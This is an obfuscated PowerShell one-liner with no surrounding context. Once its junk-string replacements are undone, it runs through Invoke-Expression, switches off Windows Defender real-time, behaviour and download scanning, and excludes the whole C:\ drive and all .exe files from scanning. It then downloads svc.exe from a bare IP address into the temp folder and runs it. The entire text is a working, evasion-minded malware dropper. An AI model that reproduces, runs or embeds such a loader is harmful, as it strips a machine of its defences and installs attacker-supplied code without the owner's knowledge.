iex (('# init 2105 v4
Set-MpPreference -DisableRealtimeMonitoringKZK95 $true -DisableBehaviorMonitoring $true -DisableIOAVProtection KZK95$true
AdKZK95d-MpPreference -ExclusionPath ''C:\''
Add-KZK95MpPreference -ExclusionExtension ''.exe''
(New-Obvx~0ect Net.WebClient).DownloadFile(''http://198.51.100.9/svc.exe'', "$env:TEMP\svc.exe")
Start-Process "$env:TEMP\KZK95svc.exe"
' -replace 'KZK95','').Replace('vx~0','j'))